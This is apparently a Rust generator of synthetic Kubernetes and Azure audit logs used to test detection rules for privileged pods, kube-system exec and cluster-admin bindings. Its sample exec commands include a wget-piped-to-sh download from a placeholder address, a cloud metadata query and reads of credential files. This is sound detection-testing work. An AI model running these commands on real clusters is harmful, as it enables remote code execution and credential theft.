        user_agents: &["kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819", "Helm/3.14.4"],
        clients: &[FRANKFURT],
        reads: &["deployments", "services", "configmaps", "secrets", "pods", "ingresses"],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"ci-deployer\" of ClusterRole \"admin\" to ServiceAccount \"github-actions-deployer/ci\"",
    },
    Actor {
        username: "arn:aws:sts::111122223333:assumed-role/PlatformAdmin/jdoe",
        role: Role::Human,
        platforms: &[Platform::Eks],
        uid: "aws-iam-authenticator:111122223333:AROAEXAMPLEROLEID0001",
        groups: &["system:masters", "system:authenticated"],
        extra: "{\"accessKeyId\":[\"ASIAEXAMPLEKEYID0001\"],\"arn\":[\"arn:aws:sts::111122223333:assumed-role/PlatformAdmin/jdoe\"],\"canonicalArn\":[\"arn:aws:iam::111122223333:role/PlatformAdmin\"],\"sessionName\":[\"jdoe\"]}",
        user_agents: &["kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819", "Helm/3.14.4"],
        clients: &[FRANKFURT, REDMOND],
        reads: &[],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"cluster-admin\" of ClusterRole \"cluster-admin\" to Group \"system:masters\"",
    },
    Actor {
        username: "arn:aws:sts::111122223333:assumed-role/Developer/asmith",
        role: Role::Human,
        platforms: &[Platform::Eks],
        uid: "aws-iam-authenticator:111122223333:AROAEXAMPLEROLEID0002",
        groups: &["developers", "system:authenticated"],
        extra: "{\"accessKeyId\":[\"ASIAEXAMPLEKEYID0002\"],\"arn\":[\"arn:aws:sts::111122223333:assumed-role/Developer/asmith\"],\"canonicalArn\":[\"arn:aws:iam::111122223333:role/Developer\"],\"sessionName\":[\"asmith\"]}",
        user_agents: &["kubectl/v1.30.1 (darwin/arm64) kubernetes/6911225"],
        clients: &[LONDON],
        reads: &["pods", "deployments", "services", "configmaps", "events"],
        authz_reason: "RBAC: allowed by RoleBinding \"developers/default\" of ClusterRole \"edit\" to Group \"developers\"",
    },
    Actor {
        username: "carol@contoso-gcp.example",
        role: Role::Human,
        platforms: &[Platform::Gke],
        uid: "",
        groups: &["system:authenticated"],
        extra: "",
        user_agents: &["kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819", "kubectl/v1.30.1 (darwin/arm64) kubernetes/6911225"],
        clients: &[FRANKFURT, SEATTLE],
        reads: &[],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"platform-admins\" of ClusterRole \"cluster-admin\" to User \"carol@contoso-gcp.example\"",
    },
    Actor {
        username: "kubernetes-admin",
        role: Role::Human,
        platforms: &[Platform::OnPrem],
        uid: "",
        groups: &["system:masters", "system:authenticated"],
        extra: "",
        user_agents: &["kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819"],
        clients: &[FRANKFURT],
        reads: &[],
        authz_reason: "",
    },
    Actor {
        username: "oidc:dave@contoso.com",
        role: Role::Human,
        platforms: &[Platform::OnPrem],
        uid: "",
        groups: &["oidc:platform-team", "system:authenticated"],
        extra: "",
        user_agents: &["kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819", "k9s/v0.32.4 (linux/amd64)"],
        clients: &[SEATTLE, AMSTERDAM_VPN],
        reads: &[],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"platform-team\" of ClusterRole \"cluster-admin\" to Group \"oidc:platform-team\"",
    },
];

/// An API resource as it appears in `ObjectRef` and request paths.
struct Resource {
    name: &'static str,
    group: &'static str,
    version: &'static str,
    namespaced: bool,
    naming: Naming,
    /// How often people and programs read it, relative to the others.
    weight: u32,
}

/// How objects of a resource are named.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Naming {
    Pod,
    App,
    ReplicaSet,
    Random,
    Node,
    Lease,
    ConfigMap,
    Secret,
    Namespace,
    Event,
    ClusterRole,
    ClusterRoleBinding,
    Fixed(&'static str),
}

const fn api_resource(
    name: &'static str,
    group: &'static str,
    version: &'static str,
    namespaced: bool,
    naming: Naming,
    weight: u32,
) -> Resource {
    Resource {
        name,
        group,
        version,
        namespaced,
        naming,
        weight,
    }
}

#[rustfmt::skip]
const RESOURCES: &[Resource] = &[
    // name, API group, version, namespaced, naming, read weight
    api_resource("pods", "", "v1", true, Naming::Pod, 30),
    api_resource("configmaps", "", "v1", true, Naming::ConfigMap, 14),
    api_resource("secrets", "", "v1", true, Naming::Secret, 10),
    api_resource("services", "", "v1", true, Naming::App, 6),
    api_resource("endpoints", "", "v1", true, Naming::App, 3),
    api_resource("endpointslices", "discovery.k8s.io", "v1", true, Naming::Random, 6),
    api_resource("nodes", "", "v1", false, Naming::Node, 12),
    api_resource("namespaces", "", "v1", false, Naming::Namespace, 4),
    api_resource("serviceaccounts", "", "v1", true, Naming::App, 3),
    api_resource("events", "", "v1", true, Naming::Event, 2),
    api_resource("persistentvolumeclaims", "", "v1", true, Naming::Random, 2),
    api_resource("persistentvolumes", "", "v1", false, Naming::Random, 1),
    api_resource("deployments", "apps", "v1", true, Naming::App, 5),
    api_resource("replicasets", "apps", "v1", true, Naming::ReplicaSet, 4),
    api_resource("daemonsets", "apps", "v1", true, Naming::App, 2),
    api_resource("statefulsets", "apps", "v1", true, Naming::App, 1),
    api_resource("controllerrevisions", "apps", "v1", true, Naming::ReplicaSet, 1),
    api_resource("jobs", "batch", "v1", true, Naming::Random, 1),
    api_resource("cronjobs", "batch", "v1", true, Naming::App, 1),
    api_resource("leases", "coordination.k8s.io", "v1", true, Naming::Lease, 6),
    api_resource("ingresses", "networking.k8s.io", "v1", true, Naming::App, 2),
    api_resource("ingressclasses", "networking.k8s.io", "v1", false, Naming::Fixed("nginx"), 1),
    api_resource("networkpolicies", "networking.k8s.io", "v1", true, Naming::App, 1),
    api_resource("clusterroles", "rbac.authorization.k8s.io", "v1", false, Naming::ClusterRole, 1),
    api_resource("clusterrolebindings", "rbac.authorization.k8s.io", "v1", false, Naming::ClusterRoleBinding, 1),
    api_resource("roles", "rbac.authorization.k8s.io", "v1", true, Naming::App, 1),
    api_resource("rolebindings", "rbac.authorization.k8s.io", "v1", true, Naming::App, 1),
    api_resource("csinodes", "storage.k8s.io", "v1", false, Naming::Node, 2),
    api_resource("storageclasses", "storage.k8s.io", "v1", false, Naming::Fixed("managed-csi"), 1),
    api_resource("runtimeclasses", "node.k8s.io", "v1", false, Naming::Fixed("runc"), 1),
    api_resource("priorityclasses", "scheduling.k8s.io", "v1", false, Naming::Fixed("system-node-critical"), 1),
    api_resource("flowschemas", "flowcontrol.apiserver.k8s.io", "v1beta3", false, Naming::Fixed("exempt"), 1),
    api_resource("certificates", "cert-manager.io", "v1", true, Naming::App, 1),
    api_resource("customresourcedefinitions", "apiextensions.k8s.io", "v1", false, Naming::Fixed("certificates.cert-manager.io"), 1),
    // Only ever created, never read.
    api_resource("tokenreviews", "authentication.k8s.io", "v1", false, Naming::Fixed(""), 0),
    api_resource("subjectaccessreviews", "authorization.k8s.io", "v1", false, Naming::Fixed(""), 0),
];

/// A workload: its pods are what kubelets, controllers and people touch.
struct App {
    namespace: &'static str,
    name: &'static str,
    image: &'static str,
    daemon_set: bool,
    /// Whether a real deployment of this add-on runs privileged containers;
    /// such pods are only created where no rule can see them.
    privileged: bool,
    port: u16,
}

const fn app(
    namespace: &'static str,
    name: &'static str,
    image: &'static str,
    daemon_set: bool,
    privileged: bool,
    port: u16,
) -> App {
    App {
        namespace,
        name,
        image,
        daemon_set,
        privileged,
        port,
    }
}

#[rustfmt::skip]
const APPS: &[App] = &[
    // namespace, name, image, daemon set, privileged, port (0: none)
    app("kube-system", "coredns", "mcr.microsoft.com/oss/kubernetes/coredns:v1.9.4", false, false, 53),
    app("kube-system", "metrics-server", "mcr.microsoft.com/oss/kubernetes/metrics-server:v0.6.4", false, false, 4443),
    app("kube-system", "konnectivity-agent", "mcr.microsoft.com/oss/kubernetes/apiserver-network-proxy/agent:v0.1.6", false, false, 8082),
    app("kube-system", "kube-proxy", "mcr.microsoft.com/oss/kubernetes/kube-proxy:v1.28.5", true, true, 10249),
    app("kube-system", "azure-ip-masq-agent", "mcr.microsoft.com/aks/ip-masq-agent-v2:v0.1.11", true, false, 0),
    app("kube-system", "cloud-node-manager", "mcr.microsoft.com/oss/kubernetes/azure-cloud-node-manager:v1.28.9", true, false, 10263),
    app("kube-system", "csi-azuredisk-node", "mcr.microsoft.com/oss/kubernetes-csi/azuredisk-csi:v1.29.5", true, true, 29603),
    app("kube-system", "csi-azurefile-node", "mcr.microsoft.com/oss/kubernetes-csi/azurefile-csi:v1.29.5", true, true, 29613),
    app("kube-system", "ama-logs", "mcr.microsoft.com/azuremonitor/containerinsights/ciprod:3.1.19", true, false, 25224),
    app("kube-system", "azure-cns", "mcr.microsoft.com/containernetworking/azure-cns:v1.5.26", true, true, 10090),
    app("default", "redis", "redis:7.2.4", false, false, 6379),
    app("payments", "payments-api", "contoso.azurecr.io/payments-api:2.7.1", false, false, 8080),
    app("payments", "payments-worker", "contoso.azurecr.io/payments-worker:2.7.1", false, false, 0),
    app("checkout", "checkout-web", "contoso.azurecr.io/checkout-web:1.19.0", false, false, 3000),
    app("web", "frontend", "mcr.microsoft.com/oss/nginx/nginx:1.25.4", false, false, 80),
    app("monitoring", "prometheus-server", "quay.io/prometheus/prometheus:v2.51.2", false, false, 9090),
    app("monitoring", "grafana", "grafana/grafana:10.4.2", false, false, 3000),
    app("monitoring", "node-exporter", "quay.io/prometheus/node-exporter:v1.8.0", true, true, 9100),
    app("ingress-nginx", "ingress-nginx-controller", "registry.k8s.io/ingress-nginx/controller:v1.10.1", false, false, 443),
    app("cert-manager", "cert-manager", "quay.io/jetstack/cert-manager-controller:v1.14.5", false, false, 9402),
    app("argocd", "argocd-repo-server", "quay.io/argoproj/argocd:v2.10.4", false, false, 8081),
    app("gatekeeper-system", "gatekeeper-controller-manager", "mcr.microsoft.com/oss/open-policy-agent/gatekeeper:v3.15.1", false, false, 8443),
];

/// Containers people add next to the main one: (name, image).
const SIDECARS: &[(&str, &str)] = &[
    ("istio-proxy", "mcr.microsoft.com/oss/istio/proxyv2:1.21.2"),
    ("fluent-bit", "fluent/fluent-bit:3.0.4"),
    (
        "config-reloader",
        "ghcr.io/jimmidyson/configmap-reload:v0.12.0",
    ),
];

/// The `exec` rule ignores pods of these AKS tunnels (matched without
/// regard to case, like `!startswith`).
const EXEC_EXEMPT_PREFIXES: &[&str] = &["tunnelfront-", "konnectivity-", "aks-link"];

/// Commands run through `kubectl exec`.
const EXEC_COMMANDS: &[&[&str]] = &[
    &["sh"],
    &["/bin/bash"],
    &["env"],
    &["cat", "/etc/resolv.conf"],
    &["cat", "/etc/kubernetes/azure.json"],
    &["ls", "-la", "/var/run/secrets/kubernetes.io/serviceaccount"],
    &["nslookup", "kubernetes.default.svc.cluster.local"],
    &[
        "sh",
        "-c",
        "curl -s -H Metadata:true http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    ],
    &["sh", "-c", "wget -qO- http://198.51.100.9/x.sh | sh"],
    &["ps", "aux"],
];

/// Security contexts that keep a container unprivileged, as JSON, or empty
/// for none.
const UNPRIVILEGED_SECURITY_CONTEXTS: &[&str] = &[
    "",
    "",
    "{}",
    "{\"allowPrivilegeEscalation\":false,\"capabilities\":{\"drop\":[\"ALL\"]},\"readOnlyRootFilesystem\":true,\"runAsNonRoot\":true,\"runAsUser\":65532}",
    "{\"privileged\":false,\"readOnlyRootFilesystem\":true}",
    "{\"capabilities\":{\"add\":[\"NET_ADMIN\",\"NET_RAW\"]}}",
    "{\"runAsUser\":0,\"runAsGroup\":0}",
];

/// Security contexts that make a container privileged: a JSON `true`, which
/// is what the API server stores, and, as some tools send it, a string.
const PRIVILEGED_SECURITY_CONTEXTS: &[&str] = &[
    "{\"privileged\":true}",
    "{\"privileged\":true}",
    "{\"privileged\":true,\"capabilities\":{\"add\":[\"SYS_ADMIN\"]}}",
    "{\"privileged\":\"true\"}",
];

/// Resource Manager operations of the sample: (operation, resource id,
/// weight). Reads are not in the Activity Log; these are the writes and
/// actions people and pipelines do.
const ARM_OPERATIONS: &[(&str, &str, u32)] = &[
    ("Microsoft.Compute/virtualMachines/write", "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourceGroups/rg-build/providers/Microsoft.Compute/virtualMachines/vm-build-01", 20),
    ("Microsoft.Compute/virtualMachines/start/action", "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourceGroups/rg-build/providers/Microsoft.Compute/virtualMachines/vm-build-01", 15),
    ("Microsoft.Compute/virtualMachines/deallocate/action", "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourceGroups/rg-build/providers/Microsoft.Compute/virtualMachines/vm-build-02", 15),
    ("Microsoft.Resources/deployments/write", "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourceGroups/rg-aks-prod/providers/Microsoft.Resources/deployments/aks-prod-upgrade", 12),
    ("Microsoft.Storage/storageAccounts/listKeys/action", "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourceGroups/rg-data/providers/Microsoft.Storage/storageAccounts/contosodata", 10),
    ("Microsoft.Network/networkSecurityGroups/securityRules/write", "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourceGroups/rg-app/providers/Microsoft.Network/networkSecurityGroups/nsg-web/securityRules/allow-https", 8),
    ("Microsoft.ContainerService/managedClusters/listClusterUserCredential/action", "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourceGroups/rg-aks-prod/providers/Microsoft.ContainerService/managedClusters/aks-prod", 10),
    ("Microsoft.Authorization/roleAssignments/write", "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/providers/Microsoft.Authorization/roleAssignments/6a1f0e2d-3c4b-4a59-8e7f-0a1b2c3d4e5f", 4),
    ("Microsoft.KeyVault/vaults/write", "/subscriptions/9d4e1b7a-2c3f-4a5b-8e6d-7f8091a2b3c4/resourceGroups/rg-payments-weu/providers/Microsoft.KeyVault/vaults/kv-payments", 3),
    ("Microsoft.Insights/diagnosticSettings/delete", "/subscriptions/9d4e1b7a-2c3f-4a5b-8e6d-7f8091a2b3c4/resourceGroups/rg-payments-weu/providers/Microsoft.ContainerService/managedClusters/aks-payments-weu/providers/Microsoft.Insights/diagnosticSettings/to-sentinel", 1),
];

/// Who calls Resource Manager: (caller, client).
static ARM_CALLERS: &[(&str, Client)] = &[
    ("alice@contoso.com", REDMOND),
    ("alice@contoso.com", AMSTERDAM_VPN),
    ("bob@contoso.com", SEATTLE),
    ("dev-intern@contoso.com", BENGALURU),
    ("5f0c2a9e-8d7b-4c6a-9e1f-2b3c4d5e6f70", FRANKFURT),
];

/// Kubernetes' alphabet for generated name suffixes (no vowels, no
/// look-alike digits).
const NAME_ALPHABET: &[u8] = b"bcdfghjklmnpqrstvwxz2456789";

// ---------------------------------------------------------------------------
// One event, filled in by a generator and then rendered

/// The fields of one row that vary; reused from row to row to avoid
/// allocating.
#[derive(Default)]
struct Event {
    time_us: i64,
    cluster: usize,
    actor: usize,
    /// For kubelets: the node; names the user and picks the address.
    node: &'static str,
    client: Option<&'static Client>,
    user_agent: &'static str,
    verb: &'static str,
    level: &'static str,
    stage: &'static str,
    request_uri: String,
    resource: usize,
    /// Empty: no `namespace` key.
    namespace: &'static str,
    /// Empty: no `name` key.
    name: String,
    /// Empty: no `subresource` key.
    subresource: &'static str,
    code: u16,
    /// Empty for success; else `Forbidden`, `NotFound`, ...
    failure_reason: &'static str,
    failure_message: String,
    /// JSON text, or empty.
    request_object: String,
    /// RBAC denied the request (as opposed to admission or success).
    denied: bool,
    /// Extra annotation, already JSON (`,"key":"value"`), or empty.
    extra_annotation: &'static str,
    /// Privileged containers in a Pod body.
    privileged_containers: u64,
    /// `roleRef.name` and subject count of a ClusterRoleBinding body.
    binding_role: &'static str,
    binding_subjects: u64,
    /// A Resource Manager operation instead of a Kubernetes request.
    arm: Option<ArmOperation>,
}

/// A Resource Manager operation of the sample.
#[derive(Clone, Copy)]
struct ArmOperation {
    /// Index into `ARM_OPERATIONS`.
    operation: usize,
    /// Index into `ARM_CALLERS`.
    caller: usize,
    /// `resultType`, `resultSignature`.
    result: (&'static str, &'static str),
}

impl Event {
    fn clear(&mut self) {
        self.node = "";
        self.client = None;
        self.request_uri.clear();
        self.namespace = "";
        self.name.clear();
        self.subresource = "";
        self.code = 200;
        self.failure_reason = "";
        self.failure_message.clear();
        self.request_object.clear();
        self.denied = false;
        self.extra_annotation = "";
        self.level = "Metadata";
        self.stage = "ResponseComplete";
        self.privileged_containers = 0;
        self.binding_role = "";
        self.binding_subjects = 0;
        self.arm = None;
    }
}

/// Builds rows: the random state, the event being built, and lookups
/// derived once from the static tables.
struct Generator {
    rng: SplitMix64,
    now_us: i64,
    match_rate: u32,
    source: Source,
    format: SampleFormat,
    /// Counts planted rows, to cycle through the rules.
    planted: u64,
    event: Event,
    /// `User` of each actor as JSON, after the username.
    user_tails: Vec<String>,
    /// Indexes into `RESOURCES`, per actor, for reads.
    reads: Vec<Vec<usize>>,
    /// Per app: the pod-template hash of its current ReplicaSet.
    template_hashes: Vec<String>,
    /// Buffers reused from event to event.
    drawn: Drawn,
    native: String,
}

/// Kinds of background event.
#[derive(Debug, Clone, Copy)]
enum Kind {
    Get,
    List,
    Watch,
    LeaseUpdate,
    StatusPatch,
    EventCreate,
    ReviewCreate,
    TokenCreate,
    PodCreate,
    PodBinding,
    PodDelete,
    ObjectCreate,
    ObjectUpdate,
    Exec,
    ClusterRoleBindingCreate,
}

/// How common each background kind is, per ten thousand rows, roughly as in
/// a busy AKS cluster's audit log: reads dominate, then lease renewals and
/// events; creates, deletes and execs by people are rare.
const KINDS: &[(u32, Kind)] = &[
    (3300, Kind::Get),
    (1500, Kind::List),
    (2150, Kind::Watch),
    (1100, Kind::LeaseUpdate),
    (400, Kind::StatusPatch),
    (550, Kind::EventCreate),
    (200, Kind::ReviewCreate),
    (250, Kind::TokenCreate),
    (130, Kind::PodCreate),
    (100, Kind::PodBinding),
    (80, Kind::PodDelete),
    (100, Kind::ObjectCreate),
    (90, Kind::ObjectUpdate),
    (35, Kind::Exec),
    (15, Kind::ClusterRoleBindingCreate),
];

impl Generator {
    fn new(options: &SampleOptions) -> Generator {
        let mut user_tails = Vec::with_capacity(ACTORS.len());
        let mut reads = Vec::with_capacity(ACTORS.len());
        for actor in ACTORS {
            let mut tail = String::new();
            if !actor.uid.is_empty() {
                tail.push_str(",\"uid\":");
                push_json_string(&mut tail, actor.uid);
            }
            tail.push_str(",\"groups\":[");
            for (i, group) in actor.groups.iter().enumerate() {
                if i > 0 {
                    tail.push(',');
                }
                push_json_string(&mut tail, group);
            }
            tail.push(']');
            if !actor.extra.is_empty() {
                tail.push_str(",\"extra\":");
                tail.push_str(actor.extra);
            }
            tail.push('}');
            user_tails.push(tail);
            let indexes = if actor.reads.is_empty() {
                (0..RESOURCES.len()).collect()
            } else {
                actor
                    .reads
                    .iter()
                    .map(|name| resource_index(name))
                    .collect()
            };
            reads.push(indexes);
        }
        // Template hashes depend on the seed too, so two samples do not
        // share pod names.
        let mut rng = SplitMix64(options.seed ^ 0x6b71_6c63_5341_4d50);
        let template_hashes = APPS
            .iter()
            .map(|_| {
                let mut hash = String::new();
                push_random_name(&mut hash, &mut rng, 10);
                hash
            })
            .collect();
        Generator {
            rng: SplitMix64(options.seed),
            now_us: options.now.timestamp_micros(),
            match_rate: options.match_rate_per_million,
            source: options.source,
            format: options.format,
            planted: 0,
            event: Event::default(),
            user_tails,
            reads,
            template_hashes,
            drawn: Drawn::default(),
            native: String::new(),
        }
    }

    /// Appends one line to `out`: the event `done` of `total` (in events or
    /// bytes). Says how many result rows each reference rule gives for it:
    /// (as written, without its `DataSource` condition).
    fn row(&mut self, out: &mut String, done: u64, total: u64) -> [(u64, u64); 3] {
        self.event.clear();
        let old = self.rng.chance(OLD_ROWS_PER_MILLION);
        // Time advances through the sample, so the file reads in time order
        // (give or take a few seconds), from 24 hours ago to now.
        let mut time = if old {
            self.now_us - MICROS_PER_DAY - self.rng.range(MICROS_PER_HOUR, 6 * MICROS_PER_DAY)
        } else {
            let total = total.max(1);
            let progress = u128::from(done.min(total)) * MICROS_PER_DAY as u128 / u128::from(total);
            self.now_us - MICROS_PER_DAY + progress as i64
                - self.rng.range(1, 3 * MICROS_PER_SECOND)
        };
        let arm_rate = self.source.arm_per_million();
        if arm_rate > 0 && self.rng.chance(arm_rate) {
            self.arm_operation();
        } else if self.rng.chance(self.match_rate) {
            let rule = RULES[(self.planted % 3) as usize];
            self.planted += 1;
            match rule {
                Rule::PrivilegedPod => self.privileged_pod(),
                Rule::ExecInKubeSystem => self.exec_in_kube_system(),
                Rule::ClusterAdminBinding => self.cluster_admin_binding(),
            }
        } else {
            self.background();
        }
        // An old row is a decoy for the time filter: written, not counted.
        let matches = if old { [(0, 0); 3] } else { self.evaluate() };
        if matches.iter().any(|&(_, anywhere)| anywhere > 0) {
            time = time.max(self.now_us - PLANTED_MAX_AGE);
        }
        self.event.time_us = time;
        self.render(out);
        matches
    }

    /// Result rows of each reference rule for the event: (as written,
    /// without the `DataSource` condition). The rules restated over the
    /// event's fields; the tests check them against the rules themselves.
    fn evaluate(&self) -> [(u64, u64); 3] {
        let e = &self.event;
        if e.arm.is_some() {
            return [(0, 0); 3];
        }
        let on_aks = CLUSTERS[e.cluster].platform == Platform::Aks;
        let resource = RESOURCES[e.resource].name;
        // `ResponseStatus.code startswith "20"`.
        let succeeded = e.code.to_string().starts_with("20");
        let pod_create = e.verb == "create" && resource == "pods";
        let privileged = if pod_create && e.subresource.is_empty() && succeeded {
            e.privileged_containers
        } else {
            0
        };
        let exec = u64::from(
            pod_create
                && e.code == 101
                && e.namespace == "kube-system"
                && e.subresource == "exec"
                && !starts_with_exempt_prefix(&e.name),
        );
        let binding = if e.verb == "create"
            && resource == "clusterrolebindings"
            && succeeded
            && e.binding_role == "cluster-admin"
            && ACTORS[e.actor].username != "acsService"
        {
            e.binding_subjects
        } else {
            0
        };
        let aks_only = |n: u64| if on_aks { n } else { 0 };
        [
            (aks_only(privileged), privileged),
            (aks_only(exec), exec),
            (binding, binding),
        ]
    }

    // -- choosing who and where --------------------------------------------

    /// Picks a cluster of the sample's source, on one of `platforms` when
    /// the source has one (any of the source's otherwise; empty: any).
    fn pick_cluster(&mut self, platforms: &[Platform]) -> usize {
        let source = self.source;
        let wanted = |c: &Cluster| {
            source.has(c.platform) && (platforms.is_empty() || platforms.contains(&c.platform))
        };
        let any = CLUSTERS.iter().any(wanted);
        let eligible = |c: &Cluster| source.has(c.platform) && (!any || wanted(c));
        let total: u32 = CLUSTERS
            .iter()
            .filter(|c| eligible(c))
            .map(|c| c.weight)
            .sum();
        let mut ticket = self.rng.below(total.max(1) as usize) as u32;
        for (i, cluster) in CLUSTERS.iter().enumerate() {
            if !eligible(cluster) {
                continue;
            }
            if ticket < cluster.weight {
                return i;
            }
            ticket -= cluster.weight;
        }
        0
    }

    /// Picks an actor of one of `roles` that exists on the event's cluster.
    fn pick_actor(&mut self, roles: &[Role]) -> usize {
        let platform = CLUSTERS[self.event.cluster].platform;
        loop {
            let i = self.rng.below(ACTORS.len());
            let actor = &ACTORS[i];
            if roles.contains(&actor.role)
                && (actor.platforms.is_empty() || actor.platforms.contains(&platform))
            {
                return i;
            }
        }
    }

    /// Sets the actor and everything that follows from it: node, client,
    /// user agent.
    fn set_actor(&mut self, actor: usize) {
        let cluster = &CLUSTERS[self.event.cluster];
        let a = &ACTORS[actor];
        self.event.actor = actor;
        self.event.user_agent = self.rng.pick(a.user_agents);
        if a.role == Role::Node {
            self.event.node = self.rng.pick(cluster.nodes);
        }
        if a.role == Role::Human {
            self.event.client = Some(&a.clients[self.rng.below(a.clients.len())]);
        }
    }

    fn pick_actor_for_read(&mut self) -> usize {
        let role = *self.rng.weighted(&[
            (34, Role::Node),
            (22, Role::Controller),
            (35, Role::Component),
            (7, Role::Human),
            (2, Role::AksInternal),
        ]);
        let role = if role == Role::AksInternal
            && CLUSTERS[self.event.cluster].platform != Platform::Aks
        {
            Role::Component
        } else {
            role
        };
        self.pick_actor(&[role])
    }

    fn pick_app(&mut self) -> usize {
        self.rng.below(APPS.len())
    }

    fn pick_app_in(&mut self, namespace: &str) -> usize {
        loop {
            let i = self.pick_app();
            if APPS[i].namespace == namespace {
                return i;
            }
        }
    }

    // -- background events: none of these matches a reference rule ----------

    fn background(&mut self) {
        match *self.rng.weighted(KINDS) {
            Kind::Get => self.read("get"),
            Kind::List => self.read("list"),
            Kind::Watch => self.read("watch"),
            Kind::LeaseUpdate => self.lease_update(),
            Kind::StatusPatch => self.status_patch(),
            Kind::EventCreate => self.event_create(),
            Kind::ReviewCreate => self.review_create(),
            Kind::TokenCreate => self.token_create(),
            Kind::PodCreate => self.pod_create(),
            Kind::PodBinding => self.pod_binding(),
            Kind::PodDelete => self.pod_delete(),
            Kind::ObjectCreate => self.object_create(),
            Kind::ObjectUpdate => self.object_update(),
            Kind::Exec => self.background_exec(),
            Kind::ClusterRoleBindingCreate => self.background_cluster_role_binding(),
        }
    }

    fn read(&mut self, verb: &'static str) {
        self.event.cluster = self.pick_cluster(&[]);
        let actor = self.pick_actor_for_read();
        self.set_actor(actor);
        let resource = {
            let candidates = &self.reads[actor];
            let total: u32 = candidates.iter().map(|&r| RESOURCES[r].weight).sum();
            let mut ticket = self.rng.below(total as usize) as u32;
            let mut chosen = candidates[0];
            for &r in candidates {
                if ticket < RESOURCES[r].weight {
                    chosen = r;
                    break;
                }
                ticket -= RESOURCES[r].weight;
            }
            chosen
        };
        let r = &RESOURCES[resource];
        self.event.verb = verb;
        self.event.resource = resource;
        let app = self.pick_app();
        // Lists and watches often span all namespaces.
        if r.namespaced && (verb == "get" || self.rng.below(10) < 6) {
            self.event.namespace = if r.naming == Naming::Lease && self.rng.below(2) == 0 {
                "kube-node-lease"
            } else {
                APPS[app].namespace
            };
        }
        if verb == "get" {
            self.object_name(resource, app);
        }
        self.build_uri();
        match verb {
            "get" => {
                if self.rng.below(3) == 0 {
                    self.event.request_uri.push_str("?timeout=10s");
                }
                if self.rng.below(100) < 4 {
                    self.fail(404);
                }
            }
            "list" => match self.rng.below(4) {
                0 => self
                    .event
                    .request_uri
                    .push_str("?limit=500&resourceVersion=0"),
                1 => {
                    self.event.request_uri.push_str("?labelSelector=app%3D");
                    self.event.request_uri.push_str(APPS[app].name);
                }
                2 if r.name == "pods" => {
                    self.event
                        .request_uri
                        .push_str("?fieldSelector=spec.nodeName%3D");
                    let node = self.rng.pick(CLUSTERS[self.event.cluster].nodes);
                    self.event.request_uri.push_str(node);
                    self.event.request_uri.push_str("&limit=500");
                }
                _ => self.event.request_uri.push_str("?limit=500"),
            },
            _ => {
                let timeout = self.rng.range(300, 600);
                let uri = &mut self.event.request_uri;
                uri.push_str("?allowWatchBookmarks=true&resourceVersion=");
                push_u64(uri, self.rng.range(40_000_000, 49_000_000) as u64);
                uri.push_str("&timeout=");
                push_u64(uri, (timeout / 60) as u64);
                uri.push('m');
                push_u64(uri, (timeout % 60) as u64);
                uri.push_str("s&timeoutSeconds=");
                push_u64(uri, timeout as u64);
                uri.push_str("&watch=true");
                if self.rng.below(2) == 0 {
                    self.event.stage = "ResponseStarted";
                }
            }
        }
        if ACTORS[actor].role == Role::Human && self.rng.below(100) < 3 {
            self.fail(403);
        }
    }

    fn lease_update(&mut self) {
        self.event.cluster = self.pick_cluster(&[]);
        self.event.verb = "update";
        self.event.resource = resource_index("leases");
        if self.rng.below(10) < 7 {
            let actor = self.pick_actor(&[Role::Node]);
            self.set_actor(actor);
            self.event.namespace = "kube-node-lease";
            self.event.name.push_str(self.event.node);
        } else {
            let (actor, name) = self.rng.pick(&[
                ("system:kube-controller-manager", "kube-controller-manager"),
                ("system:kube-scheduler", "kube-scheduler"),
                (
                    "system:serviceaccount:cert-manager:cert-manager",
                    "cert-manager-controller",
                ),
                (
                    "system:serviceaccount:ingress-nginx:ingress-nginx",
                    "ingress-nginx-leader",
                ),
            ]);
            let actor = actor_index(actor);
            self.set_actor(actor);
            self.event.namespace = match name {
                "cert-manager-controller" => "kube-system",
                "ingress-nginx-leader" => "ingress-nginx",
                _ => "kube-system",
            };
            self.event.name.push_str(name);
        }
        self.build_uri();
        self.event.request_uri.push_str("?timeout=10s");
        if self.rng.below(100) < 2 {
            self.fail(409);
        }
    }

    fn status_patch(&mut self) {
        self.event.cluster = self.pick_cluster(&[]);
        let actor = self.pick_actor(&[Role::Node]);
        self.set_actor(actor);
        self.event.verb = "patch";
        if self.rng.below(2) == 0 {
            self.event.resource = resource_index("nodes");
            self.event.name.push_str(self.event.node);
        } else {
            self.event.resource = resource_index("pods");
            let app = self.pick_app();
            self.event.namespace = APPS[app].namespace;
            self.pod_name(app);
        }
        self.event.subresource = "status";
        self.build_uri();
        self.event.request_uri.push_str("?timeout=10s");
    }

    fn event_create(&mut self) {
        self.event.cluster = self.pick_cluster(&[]);
        let actor = self.pick_actor(&[Role::Node, Role::Controller, Role::Component]);
        self.set_actor(actor);
        self.event.verb = "create";
        self.event.resource = resource_index("events");
        let app = self.pick_app();
        self.event.namespace = APPS[app].namespace;
        self.build_uri();
        self.pod_name(app);
        self.event.name.push('.');
        push_hex(&mut self.event.name, self.rng.next_u64(), 16);
        self.event.code = 201;
    }

    fn review_create(&mut self) {
        self.event.cluster = self.pick_cluster(&[]);
        let actor = actor_index(self.rng.pick(&[
            "system:serviceaccount:kube-system:metrics-server",
            "system:kube-controller-manager",
            "system:serviceaccount:monitoring:kube-state-metrics",
        ]));
